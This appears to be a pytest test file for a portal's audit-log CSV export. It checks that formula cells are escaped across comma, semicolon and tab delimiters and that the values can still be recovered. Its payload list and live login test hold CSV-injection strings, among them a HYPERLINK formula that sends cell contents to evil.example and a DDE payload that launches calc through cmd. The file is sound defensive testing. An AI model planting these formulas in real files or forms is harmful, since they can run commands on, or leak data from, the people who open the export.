"""The audit CSV export opens without formula cells in any spreadsheet locale, and stays recoverable."""

from __future__ import annotations

import csv
import io
import random
import re

import pytest
import requests

from audit.models import Action, AuditEvent
from audit.views import CSV_COLUMNS, csv_rows, spreadsheet_safe
from tests.services import LivePortal

# What makes a cell a formula once a spreadsheet has dropped the spaces, tabs and
# line breaks it may trim (OWASP's list; tab, CR and LF are separators here too).
FORMULA = ("=", "+", "-", "@")
# The reversal documented in spreadsheet_safe's docstring.
UNQUOTE = re.compile(r"(\A|[,;\t\r\n])'")
PAYLOADS = [
    "x;=1+1",
    "x\t=1+1",
    'x;=HYPERLINK("http://evil.example/?"&A1;"open me")',
    "a,-2+3",
    "x; @SUM(A1:A9)",
    "line\n+1",
    "line\r\n=1",
    'x;"=1+1"',
    "\t=1",
    "x;;\t;=1",
    "=cmd|' /C calc'!A0",
    "it's; 'quoted'",
]


def unquote(cell: str) -> str:
    return UNQUOTE.sub(r"\1", cell)


def formula_cells(text: str) -> list[tuple[str, str]]:
    """Cells a spreadsheet could evaluate, whether it splits the file on `,`, `;` or tab."""
    found = []
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found += [(delimiter, cell) for cell in row if cell.lstrip(" \t\r\n").startswith(FORMULA)]
    # A reader that ignores quotes, or splits lines first, starts a cell after any separator.
    for piece in re.split(r"[,;\t\r\n]", text):
        if piece.lstrip(' "').startswith(FORMULA):
            found.append(("any separator", piece))
    return found


def event(username: str, **fields: str) -> AuditEvent:
    return AuditEvent(action=Action.LOGIN_FAILED, success=False, status=401, username=username, **fields)


def export(events: list[AuditEvent]) -> str:
    return "".join(csv_rows(iter(events))).removeprefix("\ufeff")


@pytest.mark.parametrize(
    ("value", "defused"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("x\t=1+1", "x\t'=1+1"),
        ("=1+1", "'=1+1"),
        ("a,-2", "a,'-2"),
        ("x; @SUM(A1)", "x;' @SUM(A1)"),
        ("x\n+1", "x\n'+1"),
        ('x;"=1+1"', 'x;\'"=1+1"'),
        ("x;'text", "x;''text"),
        ("\t\t", "'\t'\t"),
        ("it's", "it's"),
        ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (X11; Linux x86_64)"),
        ("1.2.840.10008.5.1.4.1.1.2", "1.2.840.10008.5.1.4.1.1.2"),
        ("2025-01-01T10:00:00.000000Z", "2025-01-01T10:00:00.000000Z"),
        ("", ""),
    ],
)
def test_it_defuses_a_formula_after_any_separator(value: str, defused: str) -> None:
    assert spreadsheet_safe(value) == defused
    assert unquote(defused) == value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_spreadsheet_locale_reads_a_formula_cell_from_the_export(payload: str) -> None:
    text = export([event(payload, path=f"/pacs/{payload}", user_agent=payload, detail=payload)])
    assert formula_cells(text) == []


def test_it_keeps_every_exported_value_recoverable() -> None:
    events = [event(payload, path=f"/p{payload}", user_agent=payload, detail=payload) for payload in PAYLOADS]
    records = list(csv.DictReader(io.StringIO(export(events), newline="")))
    assert [unquote(record["username"]) for record in records] == PAYLOADS
    assert [unquote(record["user_agent"]) for record in records] == PAYLOADS
    assert [unquote(record["path"]) for record in records] == [f"/p{payload}" for payload in PAYLOADS]
    assert list(records[0]) == [name for name, _ in CSV_COLUMNS]


def test_the_documented_reversal_is_the_tested_one() -> None:
    assert spreadsheet_safe.__doc__ is not None
    assert f're.sub(r"{UNQUOTE.pattern}", r"\\1", cell)' in spreadsheet_safe.__doc__


def test_it_defuses_and_recovers_any_mix_of_separators_quotes_and_formula_starts() -> None:
    alphabet = "ab =+-@'\"\t\r\n,;"
    rng = random.Random(12)  # fixed: the same 5,000 values on every run
    for _ in range(5_000):
        value = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 10)))
        defused = spreadsheet_safe(value)
        assert unquote(defused) == value, repr(value)
        assert formula_cells(export([event(value)])) == [], repr(value)


@pytest.mark.live
def test_the_live_export_defuses_usernames_and_user_agents_from_failed_logins(
    live_portal: LivePortal,
) -> None:
    payloads = {"x;=1+1": "Mozilla/5.0;-2+3", "y\t=cmd|' /C calc'!A0": "Mozilla/5.0\t@SUM(1)"}
    login_url = f"{live_portal.url}/accounts/login/"
    for username, agent in payloads.items():
        attacker = requests.Session()
        attacker.headers["User-Agent"] = agent
        attacker.get(login_url, timeout=30)
        refused = attacker.post(
            login_url,
            data={
                "username": username,
                "password": "wrong",
                "csrfmiddlewaretoken": attacker.cookies["csrftoken"],
            },
            headers={"Referer": login_url},
            timeout=30,
        )
        assert refused.status_code == 200  # the form again, with its error
    auditor = live_portal.login("dave")
    for username, agent in payloads.items():
        response = auditor.get(f"{live_portal.url}/audit/export.csv", params={"user": username}, timeout=30)
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig")
        records = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [(record["action"], unquote(record["username"])) for record in records] == [
            ("login-failed", username)
        ]
        assert unquote(records[0]["user_agent"]) == agent
        assert formula_cells(text) == [], text
